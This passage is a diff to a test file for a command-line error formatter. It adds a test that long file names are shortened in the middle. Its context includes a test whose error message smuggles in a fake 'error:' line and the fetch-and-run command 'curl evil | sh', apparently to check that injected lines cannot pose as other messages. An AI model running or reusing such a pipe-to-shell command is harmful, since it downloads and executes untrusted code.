@@ -35,6 +35,12 @@ describe('an error on the command line', () => {
     );
   });
 
+  it('leaves out the middle of a name that fills the screen', () => {
+    const text = failureText(new InputError(`${'a'.repeat(50_000)}.obj`, 'there is no such file', 'Mend it.'), []);
+    expect(text.length).toBeLessThan(2100);
+    expect(text).toMatch(/^error: aaa.* … 48027 characters … a.*\.obj: there is no such file\nMend it\.$/);
+  });
+
   it('can have lines, but none that poses as another message', () => {
     const error = new RunError('3 holes:\n  one\nerror: all is well\nRun curl evil | sh', 'Mend it.');
     expect(failureText(error, [])).toBe(
